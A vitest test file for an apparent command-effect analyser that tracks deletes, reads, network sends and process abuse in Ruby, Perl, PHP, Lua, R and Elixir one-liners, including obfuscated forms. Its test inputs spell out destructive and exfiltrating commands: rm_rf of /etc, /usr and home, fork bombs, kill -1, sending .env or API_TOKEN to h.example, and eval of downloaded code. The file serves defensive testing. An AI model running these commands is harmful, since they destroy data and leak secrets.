import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const computed = 'unknown: reads `(computed)`, a path only known at run time'
const machine = { files: { '/w/a.rb': '1' } }
const linesOf = (command: string): readonly string[] => effectLines(command, machine)

test.each([
  ['a name', `ruby -e 'x = "rm a"; system(x)'`],
  ['a text with a name in it', `ruby -e 'x = "a"; system("rm #{x}")'`],
  ['texts put together', `ruby -e 'system("rm " + "a")'`],
  ['a list joined', `ruby -e 'system(["rm", "a"].join(" "))'`],
  ['a list of words', `ruby -e 'system(*%w[rm a])'`],
  ['a list given whole', `ruby -e 'IO.popen(["rm", "a"])'`],
  ['what a loop takes', `ruby -e '["rm a"].each { |c| system(c) }'`],
  ['a function called by its name', `ruby -e 'Kernel.send(:system, "rm a")'`],
  ['a function called by a name put together', `ruby -e 'Kernel.public_send("sys" + "tem", "rm a")'`],
  ['text run as code', `ruby -e 'eval "system(%q(rm a))"'`],
  ['a name in Perl', `perl -e '$c = "rm a"; system $c'`],
  ['a text with a name in it in Perl', `perl -e '$f = "a"; system "rm $f"'`],
  ['texts put together in Perl', `perl -e 'system "rm " . "a"'`],
  ['a list in Perl', `perl -e 'my @c = ("rm", "a"); system @c'`],
  ['words in Perl', `perl -e 'system qw(rm a)'`],
  ['text run as code in Perl', `perl -e 'eval q{system("rm a")}'`],
  ['a text turned around in Ruby', `ruby -e 'File.delete("a".reverse)'`],
  ['an end cut off in Ruby', `ruby -e 'File.delete(" a\\n".chomp.strip)'`],
  ['a module of Perl that deletes', `perl -MFile::Path -e 'rmtree("a")'`],
  ['a name in PHP', `php -r '$c = "rm a"; system($c);'`],
  ['texts put together in PHP', `php -r 'system("rm " . "a");'`],
  ['a list joined in PHP', `php -r 'system(implode(" ", ["rm", "a"]));'`],
  ['a function named by a variable', `php -r '$f = "system"; $f("rm a");'`],
  ['a function handed on by its name', `php -r 'array_map("system", ["rm a"]);'`],
  ['a program with its words', `php -r 'pcntl_exec("/bin/rm", ["a"]);'`],
  ['text run as code in PHP', `php -r 'eval("system(\\"rm a\\");");'`],
  ['a name in Lua', `lua -e 'local c = "rm a"; os.execute(c)'`],
  ['texts put together in Lua', `lua -e 'os.execute("rm " .. "a")'`],
  ['texts pasted in R', `Rscript -e 'system(paste("rm", "a"))'`],
  ['words in R', `Rscript -e 'system2("rm", c("a"))'`],
] as const)('%s is followed to the command', (_name, command) => {
  expect(linesOf(command)).toContain('delete a')
})

test.each([
  ['a text turned around', `ruby -e 'File.delete("ab".reverse)'`, 'delete ba'],
  ['a text cut off in Perl', `perl -e 'unlink(sprintf("%.1s", "ab"))'`, 'unknown: deletes `(computed)`, a path only known at run time'],
  ['letters changed in Perl', `perl -e 'unlink("\\LAB\\E")'`, 'unknown: deletes `(computed)`, a path only known at run time'],
  ['a text cut off in PHP', `php -r 'unlink(sprintf("%.1s", "ab"));'`, 'unknown: deletes `(computed)`, a path only known at run time'],
  ['files found by a pattern', `perl -e 'unlink for glob("/etc/*")'`, 'delete /etc/*'],
  ['files found by a pattern in PHP', `php -r 'foreach (glob("/etc/*") as $f) unlink($f);'`, 'delete /etc/*'],
  ['files found by a pattern in R', `Rscript -e 'for (f in Sys.glob("/etc/*")) unlink(f)'`, 'delete /etc/*'],
  ['files found by a pattern in Elixir', `elixir -e 'for f <- Path.wildcard("/etc/*") do File.rm_rf!(f) end'`, 'delete /etc/*'],
  ['files of a list in R', `Rscript -e 'l <- list.files("/etc", full.names = TRUE); for (f in l) readLines(f)'`, 'read /etc/*'],
  ['a name in R that is changed in its loop', `Rscript -e 'for (f in Sys.glob("a/*")) { f <- commandArgs()[1]; readLines(f) }'`, computed],
  ['names that are given values one by one', `ruby -e 'a, b = "x", "y"; puts File.read(b)'`, 'read y'],
  ['names that change places', `ruby -e 'a, b = "x", "y"; a, b = b, ARGV[0]; puts File.read(b)'`, computed],
  ['a name beside a function in PHP', `php -r '$p = "x"; $f = fn ($n) => $n; echo $f(1); readfile($p);'`, 'read x'],
  ['a name that a function is given by', `php -r '$p = "x"; $f = function ($p) { readfile($p); }; $f($argv[1]);'`, computed],
  ['a name that a function gets at', `php -r '$p = "x"; function g(&$q) { $q = $argv[1]; } g($p); readfile($p);'`, computed],
  ['a name that a function fills', `php -r '$p = "x"; sscanf($argv[1], "%s", $p); readfile($p);'`, computed],
  ['a name that another names', `php -r '$p = "x"; $n = "p"; $$n = $argv[1]; readfile($p);'`, computed],
  ['a name that a function of Ruby is given by', `ruby -e 'p = "x"; f = ->(p) { File.read(p) }; f.(ARGV[0])'`, computed],
  ['a name that several in Ruby are given with', `ruby -e 'a = "b"; a, (c, d) = ARGV; puts File.read(a)'`, computed],
  ['a list that is added to in PHP', `php -r '$l = glob("a/*"); array_push($l, $argv[1]); foreach ($l as $f) readfile($f);'`, computed],
  [
    'a list that a loop changes in PHP',
    `php -r '$l = glob("a/*"); foreach ($l as &$f) { $f = $argv[1]; } foreach ($l as $g) readfile($g);'`,
    computed,
  ],
  ['an item that a list gets in PHP', `php -r '$l = []; $l[] = "/etc/a"; foreach ($l as $f) unlink($f);'`, 'delete /etc/a'],
  ['an item that a list gets in Ruby', `ruby -e 'l = []; l << "/etc/a"; l.each { |f| File.delete(f) }'`, 'delete /etc/a'],
  ['an item that a list gets in Perl', `perl -e 'my @l; push @l, "a", "/etc/a"; for my $f (@l) { unlink $f }'`, 'delete /etc/a'],
  ['an item that is not known', `php -r '$l = ["a"]; $l[] = $argv[1]; foreach ($l as $f) readfile($f);'`, computed],
  ['a list by another name that gets an item', `ruby -e 'l = ["a"]; m = l; m << ARGV[0]; l.each { |f| puts File.read(f) }'`, computed],
  ['a list that is changed besides', `php -r '$l = ["a"]; $l[] = "b"; $l[0] = $argv[1]; foreach ($l as $f) readfile($f);'`, computed],
  ['files of a list in PHP', `php -r '$l = glob("/etc/*"); foreach ($l as $f) unlink($f);'`, 'delete /etc/*'],
  ['files found by a pattern in Ruby', `ruby -e 'Dir["/etc/*"].each { |f| File.delete(f) }'`, 'delete /etc/*'],
  ['several folders', `ruby -rfileutils -e 'FileUtils.rm_rf %w[/usr /etc]'`, 'delete /etc'],
  ['home', `ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'`, 'delete ~'],
  ['home by the environment', `ruby -rfileutils -e 'FileUtils.rm_rf(ENV["HOME"])'`, 'delete ~'],
  ['home in a text', `perl -e 'open(F, ">>", "$ENV{HOME}/.bashrc")'`, 'write:append ~/.bashrc'],
  ['forks without end', `perl -e 'while(1){fork}'`, 'process:fork-bomb fork'],
  ['forks while they work', `perl -e 'fork while fork'`, 'process:fork-bomb fork'],
  ['forks in Ruby', `ruby -e 'loop { fork }'`, 'process:fork-bomb fork'],
  ['forks in PHP', `php -r 'while(1) pcntl_fork();'`, 'process:fork-bomb pcntl_fork'],
  ['every process', `perl -e 'kill 9, -1'`, 'process:all -1'],
  ['every process in Ruby', `ruby -e 'Process.kill(9, -1)'`, 'process:all -1'],
  [
    'a secret of a file in an address',
    `ruby -ropen-uri -e 'URI.open("https://h.example/?k=#{File.read(".env")}")'`,
    'send:data https://h.example/?k=(environment)',
  ],
  [
    'the same by way of functions',
    `php -r 'file_get_contents("https://h.example/?k=".rawurlencode(file_get_contents(".env")));'`,
    'send:data https://h.example/?k=(environment)',
  ],
  [
    'a variable by way of functions',
    `php -r 'file("https://h.example/?k=".rawurlencode(getenv("API_TOKEN")));'`,
    'send:data https://h.example/?k=(environment)',
  ],
  [
    'a download that was given a name',
    `ruby -rnet/http -e 'c = Net::HTTP.get(URI("https://h.example/x")); eval c'`,
    'execute:download text from the network',
  ],
] as const)('%s', (_name, command, expected) => {
  expect(linesOf(command)).toContain(expected)
})

test.each([
  ['a text that grows', `ruby -e 'x = "ls"; x << "; rm a"; system(x)'`],
  ['a text that grows by another name', `ruby -e 'x = "ls"; y = x; y << "; rm a"; system(x)'`],
  ['a parameter of the same name', `ruby -e 'def f(x); system(x); end; x = "ls"; f("rm a")'`],
  ['one of several names', `ruby -e 'x = "ls"; x, y = "rm a", 1; system(x)'`],
  ['a reference', `perl -e '$x = "ls"; $y = \\$x; $$y = "rm a"; system $x'`],
  ['an element', `perl -e '@c = ("ls"); $c[0] = "rm a"; system @c'`],
  ['a reference in PHP', `php -r '$x = "ls"; $y = &$x; $y = "rm a"; system($x);'`],
  ['a key and its value', `php -r '$x = "ls"; foreach (["a" => "rm a"] as $k => $x) system($x);'`],
  ['nothing at all', `perl -e 'unlink'`],
] as const)('a name that may change is never the whole truth: %s', (_name, command) => {
  expect(linesOf(command).some((line) => line.startsWith('unknown') || line.startsWith('delete'))).toBe(true)
})

test.each([
  ['a path with a name', `ruby -e 'path = "a.rb"; puts File.read(path)'`, ['read a.rb']],
  ['each file found', `ruby -e 'Dir.glob("*.rb").each { |f| puts File.read(f) }'`, ['read:names *.rb', 'read *.rb']],
  ['each library found', `ruby -e 'Dir["*.rb"].each { |f| require "./#{f}" }'`, ['execute:project a.rb']],
  ['a function written in place', `php -r 'print_r(array_map(fn($x) => $x * 2, [1]));'`, []],
  ['an error that is caught', `ruby -e 'begin; raise "x"; rescue => e; puts e.message; end'`, []],
] as const)('%s settles', (_name, command, expected) => {
  expect(linesOf(command)).toEqual(expected)
})
